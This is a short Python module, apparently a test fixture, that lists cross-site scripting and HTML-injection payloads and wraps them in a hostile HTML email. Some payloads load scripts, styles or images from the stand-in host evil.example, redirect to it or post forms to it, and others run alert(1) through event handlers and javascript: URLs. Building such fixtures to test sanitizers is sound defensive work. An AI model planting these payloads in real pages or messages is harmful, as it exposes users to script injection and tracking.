"""What somebody writes who wants another's browser to do something."""

from __future__ import annotations

from typing import Final

EVIL: Final = "//evil.example"
PAYLOADS: Final = (
    "<script>alert(1)</script>",
    f"<script src={EVIL}/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    f"<img src={EVIL}/x.png>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></p></article><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    f"<iframe srcdoc='<script>alert(1)</script>' src={EVIL}></iframe>",
    f"<object data={EVIL}></object><embed src={EVIL}>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import '{EVIL}/x.css'; * {{ background: url({EVIL}/y.png) }}</style>",
    f"<form action={EVIL}><button autofocus onfocus=alert(1)>x</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "\" autofocus onfocus=alert(1) x='",
    "' style='background:url(//evil.example)' onmouseover=alert(1) x=\"",
    "{{ 7777*7777 }} {% print 7777*7777 %} ${7777*7777} <%= 7777*7777 %>",
    "<!-- --> --> ]]> <![CDATA[ <?php ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "javascript:alert(1)",
)

HTML_MAIL: Final = (
    "Subject: hostile\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    f"<html><head><title>x</title></head><body onload=alert(1)>{''.join(PAYLOADS)}"
    "<script>top.location='http://evil.example'; parent.document.title='broken'</script><p>the end</p></body></html>\r\n"
).encode()
